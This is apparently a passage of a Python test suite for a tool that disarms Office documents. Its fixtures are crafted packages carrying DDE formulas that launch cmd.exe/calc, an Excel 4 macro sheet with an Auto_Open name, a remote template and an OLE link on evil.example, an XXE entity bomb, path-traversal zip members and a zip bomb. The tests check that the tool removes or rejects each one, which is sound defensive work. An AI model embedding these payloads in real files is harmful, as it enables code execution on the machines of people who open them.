            ('rId9', 'subDocument', '\\\\server\\share\\sub.docx', 'External'),
            ('rId10', 'image', 'media/missing.png'),
            ('rId11', 'oleObject', 'file:///\\\\evil.example\\share\\book.xlsx!Sheet1!R1C1:R5C3',
             'External')])),
        ('word/settings.xml', '<w:settings xmlns:w="%s" xmlns:r="%s"><w:attachedTemplate r:id="rId1"/>'
         '<w:defaultTabStop w:val="720"/></w:settings>' % (W_NS[0], R_NS)),
        ('word/_rels/settings.xml.rels', rels_xml([
            ('rId1', 'attachedTemplate', 'http://evil.example/t.dotm', 'External')])),
        ('word/vbaProject.bin', b'\xd0\xcf\x11\xe0 not really VBA'),
        ('word/media/image1.png', PNG),
        ('word/embeddings/oleObject1.bin', b'\xd0\xcf\x11\xe0 an OLE object'),
        ('word/activeX/activeX1.xml', '<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" '
         'xmlns:r="%s" r:id="rId1"/>' % R_NS),
        ('word/activeX/_rels/activeX1.xml.rels', rels_xml([
            ('rId1', 'http://schemas.microsoft.com/office/2006/relationships/activeXControlBinary',
             'activeX1.bin')])),
        ('word/activeX/activeX1.bin', b'activex'),
        ('customUI/customUI14.xml', '<customUI xmlns="http://schemas.microsoft.com/office/2009/07/customui" '
         'onLoad="AutoOpen"/>'),
        ('word/hidden.xml', '<hidden>not referenced</hidden>'),
    ])


def test_crafted_docx():
    data = crafted_docx()
    r = worker(data=data, name='crafted.docm')
    if not one_output(r, 'crafted docm'):
        return
    out = r.outputs[0]
    bad = check_package(data, out, 'crafted.docm')
    check(not bad, 'crafted docm: output is a clean package', '; '.join(bad))
    check(out.name == 'crafted.docx' and out.type == OXML + 'wordprocessingml.document',
          'crafted docm: named crafted.docx, typed docx', '%s %s' % (out.name, out.type))
    ok, texts = notes_have(r, 'VBA project word/vbaProject.bin', 'ActiveX control word/activeX/activeX1.xml',
                           'embedded object word/embeddings/oleObject1.bin', 'custom UI customUI/customUI14.xml',
                           'external relationship attachedTemplate → http://evil.example/t.dotm',
                           'external relationship subDocument', 'external relationship image',
                           'external relationship oleObject → file:///',
                           'hyperlink → file:///C:/Windows/System32/calc.exe',
                           'unreferenced part word/hidden.xml', 'missing part media/missing.png',
                           'field DDEAUTO', 'field DDE in', 'field with a computed keyword',
                           'macro-enabled docm to docx')
    check(ok, 'crafted docm: every removal noted', texts)
    pkg = Package(bytes(out.data))
    doc = pkg.read('word/document.xml').decode()
    tree = ET.fromstring(doc)
    W = '{%s}' % W_NS[0]
    links = [h.get('{%s}id' % R_NS) for h in tree.iter(W + 'hyperlink')]
    blips = [(b.get('{%s}embed' % R_NS), b.get('{%s}link' % R_NS))
             for b in tree.iter('{%s}blip' % A_NS[0])]
    picts = list(tree.iter(W + 'pict'))
    instrs = ''.join(e.text or '' for e in tree.iter(W + 'instrText'))
    check(links == ['rId5', None], 'hyperlinks: https kept, file: link lost its r:id', links)
    check(blips == [('rId3', None), (None, None)], 'remote image r:link and missing image r:embed gone',
          blips)
    check(len(picts) == 3 and 'OLEObject' not in doc and 'LinkType' not in doc and 'control' not in doc and 'o:ole=' not in doc and
          all(p.find('.//{%s}imagedata' % V_NS).get('{%s}id' % R_NS) == 'rId3' for p in picts),
          'OLE object and ActiveX control became pictures', doc[:200])
    check('subDoc' not in doc and 'fldSimple' not in doc, 'subDoc and the DDE fldSimple gone')
    words = visible_tokens(pkg, ['word/document.xml'])
    check({'simple', 'complex', 'computed', 'result', 'about', 'DDE', 'attacks'} <= words,
          'DDE field results and plain text kept', sorted(words))
    check(instrs.strip() == 'PAGE' and doc.count('fldCharType="begin"') == 1,
          'only the PAGE field keeps its instruction', instrs)
    settings = pkg.read('word/settings.xml').decode()
    check('attachedTemplate' not in settings and 'defaultTabStop' in settings,
          'settings: attachedTemplate gone', settings)
    check(pkg.find('word/_rels/settings.xml.rels') is None, 'settings relationships part dropped once empty')
    rels = [x[0] for x in pkg.rels['word/document.xml']]
    check(rels == ['rId1', 'rId3', 'rId5'], 'document relationships left: settings, image, https link',
          rels)

    r = worker(data=data, name='crafted.docm', hyperlinks='remove')
    if one_output(r, 'crafted docm, hyperlinks=remove'):
        pkg = Package(bytes(r.outputs[0].data))
        doc = pkg.read('word/document.xml').decode()
        ext = [x for lst in pkg.rels.values() for x in lst if x[3] == 'External']
        check(not ext and 'r:id="rId5"' not in doc and 'good link' in doc,
              'hyperlinks=remove: no external relationship left, the text stays', ext)

    # a member name beyond ASCII keeps its name and its reference
    data2 = renamed_image(data, 'media/\u753b\u50cf 1.png')
    r = worker(data=data2, name='x.docx')
    if one_output(r, 'a member named in UTF-8'):
        bad = check_package(data2, r.outputs[0], 'x.docx')
        names = Package(bytes(r.outputs[0].data)).names
        check(not bad and 'word/media/\u753b\u50cf 1.png' in names, 'the UTF-8 member name survives',
              '; '.join(bad) + ' ' + repr(names))

    # the same document in UTF-16: byte searches see nothing, the parse does
    body = wp(fld('begin'), instr('DDEAUTO cmd'), fld('separate'), wr('utf16 result'), fld('end'))
    doc16 = (WDOC % body).replace('encoding="UTF-8"', 'encoding="UTF-16"').encode('utf-16')
    r = worker(data=crafted_docx(doc_bytes=doc16), name='utf16.docx')
    if one_output(r, 'UTF-16 document.xml'):
        bad = check_package(crafted_docx(doc_bytes=doc16), r.outputs[0], 'utf16.docx')
        check(not bad and any(t.startswith('field DDEAUTO') for t in r.notes_of('removed')),
              'UTF-16 document.xml: DDE field found and removed', '; '.join(bad))


SHEET = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
         '<worksheet xmlns="%s" xmlns:r="%s"><sheetData>'
         '<row r="1"><c r="A1" t="s"><v>0</v></c><c r="B1"><f>cmd|\'/c calc\'!A0</f><v>0</v></c>'
         '<c r="C1"><f>SUM(1,2)</f><v>3</v></c><c r="D1"><f>[1]Sheet1!A1</f><v>5</v></c>'
         '<c r="E1" t="str"><f>MSEXCEL|\'\\..\\..\\Windows\\System32\\cmd.exe /c calc\'!\'\'</f><v>txt</v></c></row>'
         '<row r="2"><c r="B2"><f t="shared" ref="B2:B3" si="0">cmd|\'/c calc\'!A0</f><v>1</v></c>'
         '<c r="C2" t="str"><f>"a|b"&amp;"c"</f><v>a|bc</v></c></row>'
         '<row r="3"><c r="B3"><f t="shared" si="0"/><v>2</v></c></row>'
         '</sheetData></worksheet>' % (X_NS[0], R_NS))
WORKBOOK = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            '<workbook xmlns="%s" xmlns:r="%s"><bookViews><workbookView activeTab="1"/></bookViews>'
            '<sheets><sheet name="Macro1" sheetId="2" state="veryHidden" r:id="rId2"/>'
            '<sheet name="Data" sheetId="1" state="hidden" r:id="rId1"/></sheets>'
            '<externalReferences><externalReference r:id="rId3"/></externalReferences>'
            '<definedNames><definedName name="_xlnm.Auto_Open">Macro1!$A$1</definedName>'
            '<definedName name="Evil">cmd|\'/c calc\'!A0</definedName>'
            '<definedName name="Local" localSheetId="1">Data!$A$1</definedName>'
            '<definedName name="Keep">Data!$B$2</definedName></definedNames>'
            '<calcPr calcId="1"/></workbook>' % (X_NS[0], R_NS))


def crafted_xlsx(main='application/vnd.ms-excel.sheet.macroEnabled.main+xml'):
    return make_zip([
        ('[Content_Types].xml', types_xml([], [
            ('/xl/workbook.xml', main),
            ('/xl/worksheets/sheet1.xml', OXML + 'spreadsheetml.worksheet+xml'),
            ('/xl/macrosheets/sheet2.xml', 'application/vnd.ms-excel.macrosheet+xml'),
            ('/xl/sharedStrings.xml', OXML + 'spreadsheetml.sharedStrings+xml'),
            ('/xl/externalLinks/externalLink1.xml', OXML + 'spreadsheetml.externalLink+xml'),
            ('/xl/calcChain.xml', OXML + 'spreadsheetml.calcChain+xml')])),
        ('_rels/.rels', root_rels('xl/workbook.xml')),
        ('xl/workbook.xml', WORKBOOK),
        ('xl/_rels/workbook.xml.rels', rels_xml([
            ('rId1', 'worksheet', 'worksheets/sheet1.xml'),
            ('rId2', 'http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet',
             'macrosheets/sheet2.xml'),
            ('rId3', 'externalLink', 'externalLinks/externalLink1.xml'),
            ('rId4', 'sharedStrings', 'sharedStrings.xml'),
            ('rId5', 'calcChain', 'calcChain.xml')])),
        ('xl/worksheets/sheet1.xml', SHEET),
        ('xl/macrosheets/sheet2.xml', '<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main" '
         'xmlns="%s"><sheetData><row r="1"><c r="A1"><f>EXEC("calc")</f></c></row></sheetData>'
         '</xm:macrosheet>' % X_NS[0]),
        ('xl/sharedStrings.xml', '<sst xmlns="%s" count="1" uniqueCount="1"><si><t>Visible cell words</t></si>'
         '</sst>' % X_NS[0]),
        ('xl/externalLinks/externalLink1.xml', '<externalLink xmlns="%s"><ddeLink ddeService="cmd" '
         'ddeTopic="/c calc"/></externalLink>' % X_NS[0]),
        ('xl/calcChain.xml', '<calcChain xmlns="%s"><c r="B1" i="1"/></calcChain>' % X_NS[0]),
    ])


def test_crafted_xlsx():
    data = crafted_xlsx()
    r = worker(data=data, name='book.XLSM')
    if not one_output(r, 'crafted xlsm'):
        return
    out = r.outputs[0]
    bad = check_package(data, out, 'book.xlsm')
    check(not bad, 'crafted xlsm: output is a clean package', '; '.join(bad))
    check(out.name == 'book.xlsx', 'book.XLSM is named book.xlsx', out.name)
    pkg = Package(bytes(out.data))
    X = '{%s}' % X_NS[0]
    wb = ET.fromstring(pkg.read('xl/workbook.xml'))
    sheets = [(s.get('name'), s.get('state')) for s in wb.iter(X + 'sheet')]
    names = [(d.get('name'), d.get('localSheetId')) for d in wb.iter(X + 'definedName')]
    check(sheets == [('Data', None)], 'the macro sheet went, the hidden sheet left is shown', sheets)
    check(names == [('Local', '0'), ('Keep', None)], 'Auto_Open and the DDE name went, Local renumbered',
          names)
    check(wb.find(X + 'externalReferences') is None and
          wb.find('.//' + X + 'workbookView').get('activeTab') is None,
          'external references and the active tab went')
    check(pkg.find('xl/calcChain.xml') is None and pkg.find('xl/macrosheets/sheet2.xml') is None and
          pkg.find('xl/externalLinks/externalLink1.xml') is None,
          'calcChain, macro sheet and external link parts gone', pkg.names)
    sh = ET.fromstring(pkg.read('xl/worksheets/sheet1.xml'))
    cells = {c.get('r'): c for c in sh.iter(X + 'c')}
    formulas = sorted(r_ for r_, c in cells.items() if c.find(X + 'f') is not None)
    check(formulas == ['C1', 'C2'], 'only SUM and the string with a | keep their formula', formulas)
    check([cells[k].findtext(X + 'v') for k in ('B1', 'B2', 'B3', 'D1')] == ['0', '1', '2', '5'],
          'cached values kept')
    check(cells['E1'].get('t') == 'inlineStr' and cells['E1'].findtext(X + 'is/' + X + 't') == 'txt',
          'a string result without formula became an inline string', ET.tostring(cells['E1']))
    ok, texts = notes_have(r, 'Excel 4 macro sheet xl/macrosheets/sheet2.xml',
                           'external workbook link xl/externalLinks/externalLink1.xml',
                           'DDE formula in xl/worksheets/sheet1.xml B1', 'B2', 'E1',
                           'external-link formula in xl/worksheets/sheet1.xml D1',
                           'DDE formula in the defined name Evil', 'xlsm to xlsx')
    check(ok and 'B3' not in texts, 'crafted xlsm: removals noted (shared dependants silently)', texts)


def crafted_pptx():
    pns = 'xmlns:p="%s" xmlns:a="%s" xmlns:r="%s"' % (P_NS, A_NS[0], R_NS)
    slide = ('<p:sld %s><p:cSld><p:spTree><p:nvGrpSpPr><p:cNvPr id="1" name=""/><p:cNvGrpSpPr/><p:nvPr/>'
             '</p:nvGrpSpPr><p:grpSpPr/>'
             '<p:sp><p:nvSpPr><p:cNvPr id="2" name="T"><a:hlinkClick r:id="rId3" action="ppaction://program"/>'
             '</p:cNvPr><p:cNvSpPr/><p:nvPr/></p:nvSpPr><p:spPr/><p:txBody><a:bodyPr/><a:p><a:r><a:rPr>'
             '<a:hlinkClick r:id="rId4"/></a:rPr><a:t>Slide words here</a:t></a:r></a:p></p:txBody></p:sp>'
             '<p:graphicFrame><p:nvGraphicFramePr><p:cNvPr id="7" name="Object 6"/><p:cNvGraphicFramePr/>'
             '<p:nvPr/></p:nvGraphicFramePr><p:xfrm><a:off x="10" y="20"/><a:ext cx="30" cy="40"/></p:xfrm>'
             '<a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/presentationml/2006/ole">'
             '<mc:AlternateContent xmlns:mc="%s"><mc:Choice xmlns:v="%s" Requires="v">'
             '<p:oleObj spid="_x0000_s1026" name="Worksheet" r:id="rId2" progId="Excel.Sheet.12"><p:embed/>'
             '</p:oleObj></mc:Choice><mc:Fallback><p:oleObj name="Worksheet" r:id="rId2"><p:embed/>'
             '<p:pic><p:nvPicPr><p:cNvPr id="0" name=""/><p:cNvPicPr/><p:nvPr/></p:nvPicPr><p:blipFill>'
             '<a:blip r:embed="rId5"/></p:blipFill><p:spPr/></p:pic></p:oleObj></mc:Fallback>'
             '</mc:AlternateContent></a:graphicData></a:graphic></p:graphicFrame>'
             '</p:spTree></p:cSld></p:sld>' % (pns, MC_NS, V_NS))
    return make_zip([
        ('[Content_Types].xml', types_xml([('bin', 'application/vnd.ms-office.vbaProject'),
                                           ('png', 'image/png')], [
            ('/ppt/presentation.xml', 'application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml'),
            ('/ppt/slides/slide1.xml', OXML + 'presentationml.slide+xml'),
            ('/ppt/embeddings/oleObject1.bin', OXML + 'oleObject')])),
        ('_rels/.rels', root_rels('ppt/presentation.xml')),
        ('ppt/presentation.xml', '<p:presentation %s><p:sldIdLst><p:sldId id="256" r:id="rId1"/></p:sldIdLst>'
         '<p:sldSz cx="9144000" cy="6858000"/><p:notesSz cx="6858000" cy="9144000"/></p:presentation>' % pns),
        ('ppt/_rels/presentation.xml.rels', rels_xml([
            ('rId1', 'slide', 'slides/slide1.xml'),
            ('rId2', 'http://schemas.microsoft.com/office/2006/relationships/vbaProject', 'vbaProject.bin')])),
        ('ppt/slides/slide1.xml', slide),
        ('ppt/slides/_rels/slide1.xml.rels', rels_xml([
            ('rId2', 'oleObject', '../embeddings/oleObject1.bin'),
            ('rId3', 'hyperlink', 'file:///C:/Windows/System32/calc.exe', 'External'),
            ('rId4', 'hyperlink', 'mailto:someone@example.com', 'External'),
            ('rId5', 'image', '../media/image1.png')])),
        ('ppt/vbaProject.bin', b'vba'),
        ('ppt/embeddings/oleObject1.bin', b'ole'),
        ('ppt/media/image1.png', PNG),
    ])


def test_crafted_pptx():
    data = crafted_pptx()
    r = worker(data=data, name='deck.pptm')
    if not one_output(r, 'crafted pptm'):
        return
    bad = check_package(data, r.outputs[0], 'deck.pptm')
    check(not bad, 'crafted pptm: output is a clean package', '; '.join(bad))
    pkg = Package(bytes(r.outputs[0].data))
    slide = ET.fromstring(pkg.read('ppt/slides/slide1.xml'))
    P = '{%s}' % P_NS
    tree = slide.find('.//' + P + 'spTree')
    kids = [local(k.tag) for k in tree]
    pic = tree.find(P + 'pic')
    clicks = [h.get('{%s}id' % R_NS) for h in slide.iter('{%s}hlinkClick' % A_NS[0])]
    check(kids == ['nvGrpSpPr', 'grpSpPr', 'sp', 'pic'], 'the OLE frame became a picture', kids)
    check(pic is not None and pic.find('.//' + P + 'cNvPr').get('id') == '7' and
          pic.find('.//{%s}off' % A_NS[0]).get('x') == '10', 'the picture keeps the frame id and place')
    check(clicks == ['rId4'], 'the program action went, the mailto link stayed', clicks)
    check(r.outputs[0].name == 'deck.pptx', 'deck.pptm is named deck.pptx', r.outputs[0].name)


# ---------------------------------------------------------------- refusals and limits

def test_refusals():
    doctype = ('<?xml version="1.0"?><!DOCTYPE w:document [<!ENTITY x SYSTEM "http://evil.example/">'
               '<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
               '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">]>'
               + (WDOC % wp(wr('&x;&d;&d;&d;'))).split('?>', 1)[1])
    t0 = time.monotonic()
    r = worker(data=crafted_docx(document=doctype))
    check(r.status == 'fail' and 'DOCTYPE' in (r.reason or '') and not r.outputs and
          time.monotonic() - t0 < 20, 'a document.xml with a DOCTYPE and entities fails', r.reason)
    r = worker(data=crafted_docx(document=WDOC % '<w:p><w:r></w:p>'))
    check(r.status == 'fail' and 'well-formed' in (r.reason or ''), 'malformed XML fails', r.reason)
    r = worker(data=b'this is not a zip file at all\n' * 10)
    check(r.status == 'fail' and not r.outputs, 'not a zip fails', r.reason)
    r = worker(data=crafted_docx()[:-30])
    check(r.status == 'fail' and not r.outputs, 'a truncated zip fails', r.reason)
    r = worker(data=make_zip([('a.txt', 'x')]))
    check(r.status == 'fail' and 'Content_Types' in (r.reason or ''), 'a zip without [Content_Types].xml fails',
          r.reason)
    r = worker(data=make_zip([('[Content_Types].xml', types_xml([], [])), ('_rels/.rels', rels_xml([]))]))
    check(r.status == 'fail' and 'main' in (r.reason or ''), 'a package without main part fails', r.reason)
    r = worker(data=crafted_xlsx('application/vnd.ms-excel.addin.macroEnabled.main+xml'))
    check(r.status == 'fail' and 'xlam' in (r.reason or ''), 'an xlam add-in fails', r.reason)
    pptx = zipfile.ZipFile(io.BytesIO(crafted_pptx()))
    members = [(n, pptx.read(n)) for n in pptx.namelist()]
    for bad_name in ('../evil.xml', '/abs.xml', 'word/./x.xml', 'a//b.xml', 'ctl\x01.xml',
                     'word/../../x.xml'):
        r = worker(data=make_zip(members + [(bad_name, '<x/>')]))
        check(r.status == 'fail' and not r.outputs, 'member name %r fails' % bad_name, r.reason)
    import warnings
    with warnings.catch_warnings():
        warnings.simplefilter('ignore')
        r = worker(data=make_zip(members + [('PPT/Slides/Slide1.xml', b'<x/>')]))
    check(r.status == 'fail' and 'duplicate' in (r.reason or ''), 'names differing in case only fail',
          r.reason)


def test_limits():
    r = worker(path=os.path.join(CORPUS, 'oletools/msodde/dde-test.docx'), **{'max-members': '5'})
    check(r.status == 'limit' and not r.outputs, 'max-members=5 on an 11-member docx: limit', r.reason)
    many = crafted_docx()
    z = zipfile.ZipFile(io.BytesIO(many))
    members = [(n, z.read(n)) for n in z.namelist()] + [('word/junk/%d.xml' % i, '<j/>') for i in range(2001)]
    t0 = time.monotonic()
    r = worker(data=make_zip(members))
    check(r.status == 'limit' and 'members' in (r.reason or '') and time.monotonic() - t0 < 20,
          'more than 2000 members (the default): limit', r.reason)
    # the same, with an end of central directory record that says 5 members
    big = bytearray(make_zip(members))
    eocd = big.rfind(b'PK\x05\x06')
    big[eocd + 8:eocd + 12] = (5).to_bytes(2, 'little') * 2
    r = worker(data=bytes(big))
    check(r.status == 'limit' and 'members' in (r.reason or ''),
          'more than 2000 members behind a record that declares 5: limit', r.reason)
    # a 200 MB part of zeros that deflates to about 200 KB
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, 'w', zipfile.ZIP_DEFLATED) as zz:
        for n, d in [(n, z.read(n)) for n in z.namelist()]:
            zz.writestr(n, d)
        with zz.open('word/media/zeros.png', 'w', force_zip64=True) as fh:
            block = bytes(1 << 20)
            for _ in range(200):
                fh.write(block)
    t0 = time.monotonic()
    r = worker(data=buf.getvalue())
    check(r.status == 'limit' and not r.outputs and time.monotonic() - t0 < 20,
          'a zip bomb member: limit, quickly', '%s %s %.1fs' % (r.status, r.reason, time.monotonic() - t0))
    # a member larger than the first buffer, the limit in its second
    noise = bytes(random.Random(7).getrandbits(8) for _ in range(150000))
    noisy = make_zip(members[:-2001] + [('word/media/noise.png', noise)])
    r = worker(data=noisy, **{'max-total': '120000'})
    check(r.status == 'limit', 'max-total reached inside a large member: limit', r.reason)
    r = worker(data=noisy, **{'max-total': str(len(noise) + 20000)})
    check(r.status == 'ok', 'max-total just above what the package holds: ok', r.reason)
    r = worker(data=many, **{'max-total': '5000'})
    check(r.status == 'limit', 'max-total=5000: limit', r.reason)
    r = worker(data=many, **{'max-total': str(10 ** 6)})
    check(r.status == 'ok', 'the same package within max-total: ok', r.reason)


def plain_docx(styles, more=()):
    """A docx with nothing to remove: its styles part is only checked."""
    return make_zip([
        ('[Content_Types].xml', types_xml(
            [('png', 'image/png')],
            [('/word/document.xml', OXML + 'wordprocessingml.document.main+xml'),
             ('/word/styles.xml', OXML + 'wordprocessingml.styles+xml')])),
        ('_rels/.rels', root_rels('word/document.xml')),
        ('word/document.xml', WDOC % wp(wr('plain words'))),
        ('word/_rels/document.xml.rels', rels_xml([('rId1', 'styles', 'styles.xml')] + [
            ('rId%d' % (i + 2), 'image', n.split('/', 1)[1]) for i, (n, _) in enumerate(more)])),
        ('word/styles.xml', styles),
    ] + list(more))


def test_checks():
    """The XML parts that are only checked: checked in a thread while
    the package is read (UTF-8), or at the end (other encodings), with
    the same verdicts; a failure elsewhere while a large part is being
    checked ends the run cleanly."""
    good = '<w:styles xmlns:w="%s"><w:docDefaults/></w:styles>' % W_NS[0]
    bad = '<w:styles xmlns:w="%s"><w:docDefaults></w:styles>' % W_NS[0]
    r = worker(data=plain_docx(good), name='a.docx')
    if one_output(r, 'a plain docx'):
        check(not check_package(plain_docx(good), r.outputs[0], 'a.docx'), 'a plain docx: clean output',
              '; '.join(check_package(plain_docx(good), r.outputs[0], 'a.docx')))
    r = worker(data=plain_docx(bad))
    check(r.status == 'fail' and 'styles.xml' in (r.reason or '') and 'well-formed' in r.reason and
          not r.outputs, 'a malformed part that is only checked fails', r.reason)
    r = worker(data=plain_docx(b'\xef\xbb\xbf\n ' + bad.encode()))
    check(r.status == 'fail' and 'well-formed' in (r.reason or ''),
          'the same after a byte order mark and white space fails', r.reason)
    dt = '<!DOCTYPE w:styles [<!ENTITY a "b">]>' + good
    r = worker(data=plain_docx(dt))
    check(r.status == 'fail' and 'DOCTYPE' in (r.reason or ''), 'a DOCTYPE in a part only checked fails',
          r.reason)
    u16 = '<?xml version="1.0" encoding="UTF-16"?>'
    r = worker(data=plain_docx((u16 + good).encode('utf-16')), name='b.docx')
    check(r.status == 'ok' and len(r.outputs) == 1, 'a well-formed UTF-16 part: ok', r.reason)
    r = worker(data=plain_docx((u16 + bad).encode('utf-16')))
    check(r.status == 'fail' and 'well-formed' in (r.reason or ''), 'a malformed UTF-16 part fails',
          r.reason)
    # a large part being checked when the package turns out to have no
    # main part: the run fails at once, without waiting for the check
    big = '<w:styles xmlns:w="%s">%s</w:styles>' % (W_NS[0], '<w:style w:styleId="s">日本語の段落</w:style>' * 300000)
    z = zipfile.ZipFile(io.BytesIO(plain_docx(big)))
    members = [(n, z.read(n)) for n in z.namelist() if n != '_rels/.rels']
    t0 = time.monotonic()
    r = worker(data=make_zip(members))
    check(r.status == 'fail' and 'main' in (r.reason or '') and r.returncode == 0,
          'no main part while a large part is checked: fail', '%s %s rc=%s' % (r.status, r.reason,
                                                                              r.returncode))
    check(time.monotonic() - t0 < 20, 'no main part while a large part is checked: in bounded time')


def test_zip_written():
    """The zip written: every member deflated, UTF-8 names flagged as
    such, sizes and CRC in a data descriptor after the data (libclamav
    scans again a member whose local header carries them) that agrees
    with the central directory, and every member dated 2000-01-01."""
    name = 'word/media/写真 1.png'
    data = plain_docx('<w:styles xmlns:w="%s"/>' % W_NS[0], more=[(name, PNG)])
    r = worker(data=data, name='c.docx')
    if not one_output(r, 'a docx with a Japanese member name'):
        return
    out = bytes(r.outputs[0].data)
    z = zipfile.ZipFile(io.BytesIO(out))
    check(z.testzip() is None, 'written zip: every CRC is right')
    check(name in z.namelist() and z.read(name) == PNG, 'written zip: the UTF-8 name reads back',
          z.namelist())
    bad = []
    for i in z.infolist():
        lh = out[i.header_offset:i.header_offset + 30]
        sig, ver, flags, method, tm, dt, crc, csize, usize, nlen, xlen = struct.unpack('<IHHHHHIIIHH', lh)
        if sig != 0x04034b50 or method != 8 or i.compress_type != 8:
            bad.append('%s: not deflated' % i.filename)
        if (flags & 0x800 != 0) != any(ord(c) > 127 for c in i.filename) or flags != i.flag_bits:
            bad.append('%s: flags %#x / %#x' % (i.filename, flags, i.flag_bits))
        desc = out[i.header_offset + 30 + nlen + i.compress_size:][:16]
        if not flags & 8 or (crc, csize, usize) != (0, 0, 0) or xlen != 0 or \
                desc != struct.pack('<IIII', 0x08074b50, i.CRC, i.compress_size, i.file_size):
            bad.append('%s: no data descriptor agreeing with the directory' % i.filename)
        if i.date_time != (2000, 1, 1, 0, 0, 0) or (i.external_attr >> 16) != 0o100644:
            bad.append('%s: %s %o' % (i.filename, i.date_time, i.external_attr >> 16))
    check(not bad, 'written zip: local headers, flags, dates and modes', '; '.join(bad))
    # read by libarchive too: the archive handler unpacks it
    u = run(A.worker, 'archive', data=out, opts={'name': 'c.zip'}, timeout=120)
    got = {(o.name or '').split('/')[-1]: bytes(o.data) for o in u.outputs}
    check(u.status == 'ok' and got.get('写真 1.png') == PNG and len(got) == len(z.namelist()),
          'written zip: libarchive reads every member', '%s %s %s' % (u.status, u.reason, sorted(got)))


def test_ratio():
    """max-ratio applies past 16 MiB expanded: a package with a few MB
    that deflate a thousand times is kept (a blank drawing does that),
    one with 20 MB of them is a limit."""
    small = plain_docx('<w:styles xmlns:w="%s"/>' % W_NS[0],
                       more=[('word/media/blank.png', bytes(3 << 20))])
    check(len(small) * 100 < 3 << 20, 'the 3 MB package deflates more than 100 times', len(small))
    r = worker(data=small)
    check(r.status == 'ok' and len(r.outputs) == 1, 'a 3 MB part deflated 1000 times: ok', r.reason)
    if r.status == 'ok':
        again = worker(data=r.outputs[0].data)
        check(again.status == 'ok' and again.outputs[0].data == r.outputs[0].data,
              'its output disarmed again gives itself', again.reason)
    large = plain_docx('<w:styles xmlns:w="%s"/>' % W_NS[0],
                       more=[('word/media/blank.png', bytes(20 << 20))])
    r = worker(data=large)
    check(r.status == 'limit' and 'expands more than 100 times' in (r.reason or '') and not r.outputs,
          'a 20 MB part deflated 1000 times: limit', r.reason)


def main():
    global A, CORPUS
    A = args()
    CORPUS = need_shared(A)
    if not A.worker or not os.path.exists(A.worker):
        check(False, 'the worker executable exists', A.worker)
        done()
    files = test_corpus()
    test_stable(files)
    test_member_data()
    test_reencoded()
    test_corpus_details()
    test_crafted_docx()
    test_crafted_xlsx()
    test_crafted_pptx()
    test_refusals()
    test_limits()
    test_checks()
    test_zip_written()
    test_ratio()
    done()


if __name__ == '__main__':
    main()
